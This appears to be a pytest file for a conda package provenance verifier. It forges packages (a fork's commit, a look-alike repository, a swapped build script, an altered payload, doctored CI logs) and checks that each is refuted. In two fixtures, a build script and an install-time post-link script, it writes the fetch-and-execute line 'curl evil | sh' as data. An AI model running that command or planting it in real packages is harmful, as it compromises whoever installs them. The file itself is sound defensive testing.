"""The table of forgeries, each with the check that catches it, and of honest packages.

Every case goes through the command: a package built by the real engine or forged from one, a real
git server, and a forge with a CI. Owners of checks add rows.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cli_running import answer, run_command
from forge_model import Opinion
from forgery_workshop import Workshop, digest_of, line_of, recipe_file, workshop

from conda_provenance.packages.read_contents import read_contents

MAIN = ("--allow", "http,private")


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workshop]:
    with workshop(tmp_path_factory.mktemp("workshop")) as made:
        yield made


Make = Callable[[Workshop], Path]


@dataclass(frozen=True)
class Case:
    """A package, and what ``verify`` must say of it."""

    title: str
    make: Make
    check: str
    """The check that decides."""
    ends: str
    says: str
    """What stands in its sentence."""
    outcome: str
    options: Callable[[Workshop], tuple[str, ...]] = lambda shop: ("--expect-repo", shop.repo)

    def __str__(self) -> str:
        return self.title


def nobody_named(shop: Workshop) -> tuple[str, ...]:
    return ()


def also(*more: str) -> Callable[[Workshop], tuple[str, ...]]:
    """The repository is expected, and more."""
    return lambda shop: ("--expect-repo", shop.repo, *more)


def policy(text: str) -> Callable[[Workshop], tuple[str, ...]]:
    """A policy that names the repository, with further lines."""

    def options(shop: Workshop) -> tuple[str, ...]:
        shop.number += 1
        path = shop.folder / f"policy-{shop.number}.toml"
        path.write_text(
            f'version = 1\n[[rules]]\nrepositories = ["{shop.repo}"]\n{text}\n', "utf-8"
        )
        return ("--policy", str(path))

    return options


def verify(shop: Workshop, *packages: Path, options: tuple[str, ...] = ()) -> dict[str, Any]:
    done = run_command("verify", *packages, "--json", *MAIN, *options)
    printed = answer(done)
    expected = {"verified": 0, "refuted": 1}
    worst = [expected.get(each["outcome"], 3) for each in printed["packages"]]
    assert done.returncode == (1 if 1 in worst else max(worst)), done.stderr
    return printed


def check_of(row: dict[str, Any], name: str) -> dict[str, Any]:
    (found,) = (each for each in row["checks"] if each["id"] == name)
    return dict(found)


def hold(case: Case, shop: Workshop) -> None:
    package = case.make(shop)
    (row,) = verify(shop, package, options=case.options(shop))["packages"]
    check = check_of(row, case.check)
    assert (row["outcome"], check["outcome"]) == (case.outcome, case.ends), check["message"]
    assert case.says in check["message"]


# --- the commit ----------------------------------------------------------------------------------


def of_another_repository(shop: Workshop) -> Path:
    return shop.at("1" * 40)


def of_another_owner(shop: Workshop) -> Path:
    return shop.stamped(remote_url=shop.copied("mallory"))


def of_a_look_alike(shop: Workshop) -> Path:
    return shop.stamped(remote_url=shop.repo.replace("acme", "acrne"))


def moved_to_another_owner(shop: Workshop) -> Path:
    shop.server.moved["/gone/hello-feedstock"] = shop.copied("mallory")
    return shop.stamped(remote_url=f"{shop.server.url}/gone/hello-feedstock")


def expects_what_moved(shop: Workshop) -> tuple[str, ...]:
    return ("--expect-repo", f"{shop.server.url}/gone/hello-feedstock")


COMMIT = (
    Case(
        "sha of another repository",
        of_another_repository,
        "commit-exists",
        "fail",
        "has no commit",
        "refuted",
    ),
    Case(
        "sha of a fork",
        lambda shop: shop.at("fork"),
        "commit-on-branch",
        "fail",
        "none of its branches and tags has it",
        "refuted",
    ),
    Case(
        "sha of a pull request that nobody merged",
        lambda shop: shop.at("closed"),
        "commit-on-branch",
        "fail",
        "none of its branches and tags has it",
        "refuted",
    ),
    Case(
        "sha of a deleted branch",
        lambda shop: shop.at("deleted-branch"),
        "commit-on-branch",
        "fail",
        "none of its branches and tags has it",
        "refuted",
    ),
    Case(
        "sha that was forced away",
        lambda shop: shop.at("forced-away"),
        "commit-on-branch",
        "fail",
        "none of its branches and tags has it",
        "refuted",
    ),
    Case(
        "sha of another branch",
        lambda shop: shop.at("unmerged"),
        "commit-on-branch",
        "unavailable",
        "open-change",
        "unavailable",
    ),
    Case(
        "sha of another branch, while a ref is expected",
        lambda shop: shop.at("unmerged"),
        "commit-on-branch",
        "fail",
        "main",
        "refuted",
        also("--expect-ref", "main"),
    ),
    Case(
        "sha of a tag alone",
        lambda shop: shop.at("tag-only"),
        "commit-on-branch",
        "unavailable",
        "v0.9",
        "unavailable",
    ),
    Case(
        "side commit of a merged change",
        lambda shop: shop.at("side-first"),
        "commit-on-branch",
        "unavailable",
        "and never was the branch itself",
        "unavailable",
    ),
    Case(
        "another owner's copy of the repository",
        of_another_owner,
        "expected",
        "fail",
        "mallory",
        "refuted",
    ),
    Case("look-alike repository", of_a_look_alike, "expected", "fail", "acrne", "refuted"),
    Case(
        "another owner's copy, and nobody named a repository",
        of_another_owner,
        "expected",
        "not-applicable",
        "which the package itself names",
        "consistent",
        nobody_named,
    ),
    Case(
        "name that was given to another owner",
        moved_to_another_owner,
        "expected",
        "fail",
        "mallory",
        "refuted",
        expects_what_moved,
    ),
    Case(
        "name that was registered again",
        lambda shop: shop.copy(),
        "expected",
        "fail",
        "registered again",
        "refuted",
        policy('repository_id = "1"'),
    ),
)


# --- the recipe ----------------------------------------------------------------------------------


def script_at_installation(shop: Workshop) -> Path:
    return shop.changed(payload={"bin/.hello-post-link.sh": b"curl evil | sh\n"})


RECIPE = (
    Case(
        "recipe edited by one byte",
        lambda shop: shop.changed(recipe_file("fix.patch", b"--- b\n+++ b\n")),
        "recipe-matches",
        "fail",
        "fix.patch",
        "refuted",
    ),
    Case(
        "build script swapped",
        lambda shop: shop.changed(recipe_file("build.sh", b"curl evil | sh\n")),
        "recipe-matches",
        "fail",
        "build.sh",
        "refuted",
    ),
    Case(
        "file added to the recipe",
        lambda shop: shop.changed(recipe_file("evil.sh", b"x\n")),
        "recipe-matches",
        "fail",
        "evil.sh",
        "refuted",
    ),
    Case(
        "file taken out of the recipe",
        lambda shop: shop.changed({"info/recipe/fix.patch": None}),
        "recipe-matches",
        "fail",
        "fix.patch",
        "refuted",
    ),
    Case(
        "script that runs at installation and is in no recipe",
        script_at_installation,
        "recipe-matches",
        "unavailable",
        "runs at install, not from the recipe",
        "unavailable",
    ),
)


# --- the change ----------------------------------------------------------------------------------

REVIEWED = policy(
    'reviews = 1\nfresh_reviews = true\nchecks = ["commit-reviewed"]\nbots = ["autobot"]'
)
MERGE, SQUASH = 1, 2
"""The numbers of changes of the history."""


def reviewed(*said: Opinion, **fields: Any) -> Make:
    """A package of a squashed change about which people said this."""

    def make(shop: Workshop) -> Path:
        shop.forge.model.edit(SQUASH, said=said, **fields)
        return shop.at("squash")

    return make


def approved_before_the_last_push(shop: Workshop) -> Path:
    change = shop.forge.model.change(SQUASH)
    assert change is not None
    return reviewed(Opinion("dora", commit=change.commits[0]))(shop)


CHANGE = (
    Case(
        "approved by nobody, while somebody must",
        reviewed(),
        "commit-reviewed",
        "fail",
        "1 approval is wanted and 0 can be counted",
        "refuted",
        REVIEWED,
    ),
    Case(
        "approved by the author alone",
        reviewed(Opinion("bob")),
        "commit-reviewed",
        "fail",
        "bob",
        "refuted",
        REVIEWED,
    ),
    Case(
        "approved by a bot alone",
        reviewed(Opinion("autobot")),
        "commit-reviewed",
        "fail",
        "autobot is a bot",
        "refuted",
        REVIEWED,
    ),
    Case(
        "no merged change brought the commit, while one must",
        lambda shop: shop.at("second"),
        "commit-reviewed",
        "fail",
        "",
        "refuted",
        REVIEWED,
    ),
    Case(
        "nobody approved, and nobody asked for it",
        reviewed(),
        "commit-reviewed",
        "pass",
        "nobody else approved it",
        "consistent",
    ),
)


# --- the run and its log -------------------------------------------------------------------------


def one_byte_changed(shop: Workshop) -> Path:
    """The honest package's stamp and log, and one byte of the payload is another."""
    honest = shop.run(shop.copy())
    number = max(shop.forge.pipelines)
    forged = shop.changed(
        {"info/about.json": read_contents(honest, whole=True).files["info/about.json"]},
        {"hi": b"evil\n"},
    )
    assert digest_of(forged) != digest_of(honest)
    assert line_of(honest) in shop.forge.pipelines[number].log
    return forged


def named_by_nobody(shop: Workshop) -> Path:
    return shop.run(shop.copy(), "building", "done", names=False)


def another_files_hash(shop: Workshop) -> Path:
    package = shop.copy()
    shop.run(package, names=False)
    log = line_of(package, name="other-1.0-0.conda")
    shop.forge.pipelines[max(shop.forge.pipelines)].log = f"{log}\n"
    return package


def in_a_downloads_line(shop: Workshop) -> Path:
    package = shop.run(shop.copy(), names=False)
    line = f"Downloading {package.name} ... sha256:{digest_of(package)}"
    shop.forge.pipelines[max(shop.forge.pipelines)].log = f"{line}\n"
    return package


def contradicting_log(shop: Workshop) -> Path:
    """A test's output prints the line of another file of that name, after the true one."""
    package = shop.run(shop.copy())
    made = shop.forge.pipelines[max(shop.forge.pipelines)]
    made.log = f"{line_of(package, sha256='0' * 64)}\n{line_of(package)}\n" + made.log.replace(
        digest_of(package), "1" * 64
    )
    return package


def its_own_ci(shop: Workshop) -> Path:
    """A CI of the forger's own, which says whatever he likes."""
    return shop.stamped(
        flow_run_id="woodpecker_1/2", flow_run_url=f"{shop.server.url}/ci/repos/1/pipeline/2"
    )


def deleted_run(shop: Workshop) -> Path:
    return shop.stamped(flow_run_id="gitlab_999999")


def another_forge_of_nobody(shop: Workshop) -> Path:
    return shop.run(shop.copy())


RUN = (
    Case(
        "honest package",
        lambda shop: shop.run(shop.copy()),
        "artifact-in-run",
        "pass",
        "by a log that the build itself writes",
        "verified",
    ),
    Case(
        "one byte of the payload changed",
        one_byte_changed,
        "artifact-in-run",
        "fail",
        "with another digest",
        "refuted",
    ),
    Case(
        "run of another commit",
        lambda shop: shop.run(shop.copy(), sha=shop.history["first"]),
        "run-matches",
        "fail",
        "built another commit",
        "refuted",
    ),
    Case(
        "run of another repository",
        lambda shop: shop.run(shop.copy(), project="mallory/hello-feedstock"),
        "run-matches",
        "fail",
        "of another repository",
        "refuted",
    ),
    Case(
        "run of a pull request",
        lambda shop: shop.run(shop.copy(), source="merge_request_event"),
        "run-matches",
        "fail",
        "started by a pull request",
        "consistent",
    ),
    Case(
        "run that another one started",
        lambda shop: shop.run(shop.copy(), source="pipeline"),
        "run-matches",
        "unavailable",
        "who wrote what it ran cannot be told",
        "consistent",
    ),
    Case(
        "run that failed",
        lambda shop: shop.run(shop.copy(), names=False, status="failed"),
        "run-matches",
        "fail",
        "failed",
        "consistent",
    ),
    Case(
        "digest in no log",
        named_by_nobody,
        "artifact-in-run",
        "unavailable",
        "never names",
        "consistent",
    ),
    Case(
        "digest of another file's line",
        another_files_hash,
        "artifact-in-run",
        "unavailable",
        "never names",
        "consistent",
    ),
    Case(
        "digest in the line of a download",
        in_a_downloads_line,
        "artifact-in-run",
        "unavailable",
        "never names",
        "consistent",
    ),
    Case(
        "log that prints another one's line",
        contradicting_log,
        "artifact-in-run",
        "unavailable",
        "contradicts itself",
        "consistent",
    ),
    Case(
        "run at a CI of the forger's own",
        its_own_ci,
        "run-matches",
        "unavailable",
        "",
        "consistent",
    ),
    Case(
        "all is well, and nobody named the repository",
        another_forge_of_nobody,
        "run-matches",
        "unavailable",
        "says so of itself",
        "consistent",
        nobody_named,
    ),
)

# --- honest packages -----------------------------------------------------------------------------

HONEST = (
    Case(
        "run that was deleted",
        deleted_run,
        "run-matches",
        "unavailable",
        "runs are deleted after a while",
        "consistent",
    ),
    Case(
        "run that was started by hand",
        lambda shop: shop.run(shop.copy(), source="web"),
        "run-matches",
        "pass",
        "started by hand",
        "verified",
    ),
    Case(
        "run of a tag",
        lambda shop: shop.run(shop.copy(), tag=True),
        "run-matches",
        "pass",
        "",
        "verified",
    ),
    Case(
        "approved by somebody else",
        reviewed(Opinion("dora")),
        "commit-reviewed",
        "pass",
        "approved by dora",
        "consistent",
        policy('reviews = 1\nchecks = ["commit-reviewed"]'),
    ),
    Case(
        "package of a maintenance branch",
        lambda shop: shop.at("maintenance"),
        "commit-on-branch",
        "unavailable",
        "1.x",
        "unavailable",
    ),
    Case(
        "package of an expected maintenance branch",
        lambda shop: shop.at("maintenance"),
        "commit-on-branch",
        "pass",
        "1.x",
        "consistent",
        also("--expect-ref", "1.x"),
    ),
    Case(
        "package of an expected tag",
        lambda shop: shop.at("tag-only"),
        "commit-on-branch",
        "pass",
        "v0.9",
        "consistent",
        also("--expect-ref", "refs/tags/v0.9"),
    ),
    *(
        Case(
            f"package of a change that was landed by {how}",
            lambda shop, commit=commit: shop.at(commit),
            "commit-on-branch",
            "pass",
            "main",
            "consistent",
        )
        for how, commit in (("a merge", "merge"), ("a squash", "squash"), ("a rebase", "rebased"))
    ),
)


@pytest.mark.parametrize("case", [*COMMIT, *RECIPE, *CHANGE, *RUN, *HONEST], ids=str)
def test_of_each_package_it_says_what_is_so(case: Case, shop: Workshop) -> None:
    hold(case, shop)


def test_two_commits_of_one_repository_in_one_call(shop: Workshop) -> None:
    good, evil = shop.at("first"), shop.at("closed")
    rows = verify(shop, good, evil, options=("--expect-repo", shop.repo))["packages"]
    assert [row["outcome"] for row in rows] == ["consistent", "refuted"]


def test_a_package_that_says_nothing_is_not_refuted(shop: Workshop) -> None:
    package = shop.changed({"info/about.json": b"{}"})
    (row,) = verify(shop, package, options=("--expect-repo", shop.repo))["packages"]
    assert row["outcome"] == "silent"


def test_evidence_that_was_edited_and_hashed_again_verifies_nothing(
    shop: Workshop, tmp_path: Path
) -> None:
    """Whoever can write the file can say anything in it. Only its digest can be believed."""
    import msgspec

    from conda_provenance.verify.evidence.document import (
        Document,
        chained,
        digest_of,
        first_link,
        last_link,
    )

    package = shop.at("closed")
    expect = ("--expect-repo", shop.repo)
    (row,) = verify(shop, package, options=(*expect, "--evidence", str(tmp_path)))["packages"]
    assert row["outcome"] == "refuted"

    file = Path(row["evidence"]["file"])
    document = msgspec.json.decode(file.read_bytes(), type=Document)
    honest = json.dumps(msgspec.to_builtins(document)).replace(
        shop.history["unmerged"], shop.history["closed"]
    )
    edited = msgspec.json.decode(honest, type=Document)
    first = first_link(edited.program, edited.written_at, edited.package)
    answers = chained(first, edited.answers)
    last = last_link(answers[-1].chain, len(answers))
    edited = msgspec.structs.replace(edited, answers=answers, digest=last)
    assert digest_of(edited) == edited.digest
    file.write_bytes(msgspec.json.encode(edited))

    offline = (*expect, "--evidence", str(tmp_path), "--offline")
    for believed in ((), ("--evidence-digest", row["evidence"]["digest"])):
        (row_again,) = verify(shop, package, options=(*offline, *believed))["packages"]
        assert row_again["outcome"] != "verified"
        assert not row_again["evidence"]["believed"]


def test_the_line_of_a_build_is_what_the_page_says(shop: Workshop) -> None:
    assert line_of(shop.honest).startswith("conda-provenance: noarch/hello-1.0-")
